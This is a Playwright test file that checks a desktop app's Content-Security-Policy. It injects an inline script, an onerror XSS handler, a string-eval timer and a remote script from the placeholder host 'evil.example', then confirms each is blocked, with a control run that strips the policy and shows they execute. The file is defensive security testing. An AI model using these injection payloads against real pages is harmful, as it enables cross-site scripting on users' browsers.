// The renderer's Content-Security-Policy: strict on paper (no inline or eval scripts, no remote origins) and in
// Chromium (an injected inline script or inline event handler does not run). A copy of the page served without the
// policy runs the same injections, which shows the check can fail.
import { existsSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import type { Page } from '@playwright/test';
import { test, expect } from '../support/harness';

const root = resolve(import.meta.dirname, '..', '..');
const builtHtml = resolve(root, 'out', 'renderer', 'index.html');

function cspOf(html: string): Map<string, string[]> {
  const meta = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]*)"/i.exec(html);
  if (!meta) throw new Error('index.html has no Content-Security-Policy meta tag');
  const directives = new Map<string, string[]>();
  for (const part of meta[1]!.split(';')) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) directives.set(name.toLowerCase(), values);
  }
  return directives;
}

/** Sources that let anything but the app's own files in: inline, eval, wildcards, schemes and hosts. */
function remoteOrUnsafe(values: string[]): string[] {
  const allowed = new Set(["'self'", "'none'", 'data:']);
  return values.filter((v) => !allowed.has(v));
}

test.describe('Content-Security-Policy', () => {
  test.beforeAll(() => {
    if (!existsSync(builtHtml)) throw new Error(`${builtHtml} is missing: run "npm run build" first (npm test does).`);
  });

  test('allows scripts only from the app itself and names no remote origin anywhere', () => {
    for (const file of [builtHtml, resolve(root, 'src', 'renderer', 'index.html')]) {
      const csp = cspOf(readFileSync(file, 'utf8'));
      expect(csp.get('default-src'), file).toEqual(["'none'"]);
      expect(csp.get('script-src'), file).toEqual(["'self'"]);
      expect(csp.get('object-src'), file).toEqual(["'none'"]);
      expect(csp.get('base-uri'), file).toEqual(["'none'"]);
      for (const [directive, values] of csp) {
        expect(values.join(' '), `${file} ${directive}`).not.toMatch(/unsafe-inline|unsafe-eval|unsafe-hashes|wasm-unsafe-eval|\*|https?:|wss?:|blob:|filesystem:/);
        // data: is tolerated for images only (inline SVG icons); nowhere may it reach scripts, frames or connections.
        const extra = remoteOrUnsafe(values);
        expect(extra.filter((v) => !(v === 'data:' && directive === 'img-src')), `${file} ${directive}`).toEqual([]);
      }
    }
  });

  // Runs in the page as source text: this project's node-side type check has no DOM types. page.evaluate itself runs
  // with DevTools' exemption from the policy, so eval is tried through a string timer, which the page compiles later
  // under its own policy.
  const INJECT = `(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    const script = document.createElement('script');
    script.textContent = 'window.__pwnedScript = 1';
    document.body.append(script);
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="/definitely-missing.png" onerror="window.__pwnedHandler = 1">';
    document.body.append(holder);
    const remote = document.createElement('script');
    remote.src = 'https://evil.example/x.js';
    document.body.append(remote);
    setTimeout('window.__pwnedEval = 1', 0);
    await new Promise((done) => setTimeout(done, 500));
    return {
      script: window.__pwnedScript ?? 'blocked',
      handler: window.__pwnedHandler ?? 'blocked',
      eval: window.__pwnedEval ?? 'blocked',
      violations: [...new Set(violations)].sort(),
    };
  })()`;

  const inject = (page: Page) => page.evaluate(INJECT) as Promise<Record<string, unknown>>;

  test('blocks an injected inline script, an inline event handler, eval and a remote script in Chromium', async ({ app }) => {
    const { page } = app;
    // Nothing may leave the machine even if the policy failed: a remote request is caught here and counted.
    const remoteRequests: string[] = [];
    await page.route('https://evil.example/**', (route) => {
      remoteRequests.push(route.request().url());
      return route.abort();
    });
    await expect(page.getByRole('heading', { name: 'Welcome to Pathboard' })).toBeVisible();
    const outcome = await inject(page);
    expect(outcome).toMatchObject({ script: 'blocked', handler: 'blocked', eval: 'blocked' });
    expect(outcome['violations']).toEqual(expect.arrayContaining(['script-src-elem']));
    expect(remoteRequests).toEqual([]);
    // The app itself still works under the policy.
    await expect(page.getByRole('button', { name: 'I already know my path' })).toBeVisible();
  });

  test('control: the same injections do run when the page is served without its policy', async ({ app }) => {
    const { page } = app;
    await page.route('https://evil.example/**', (route) => route.abort());
    await page.route(/^http:\/\/127\.0\.0\.1:\d+\//, async (route) => {
      const response = await route.fetch();
      const type = response.headers()['content-type'] ?? '';
      if (!type.includes('text/html')) return route.fulfill({ response });
      const body = (await response.text()).replace(/<meta\s+http-equiv="Content-Security-Policy"[^>]*>/i, '');
      return route.fulfill({ response, body });
    });
    await page.reload();
    await expect(page.getByRole('heading', { name: 'Welcome to Pathboard' })).toBeVisible();
    const outcome = await inject(page);
    expect(outcome).toMatchObject({ script: 1, handler: 1, eval: 1 });
  });
});
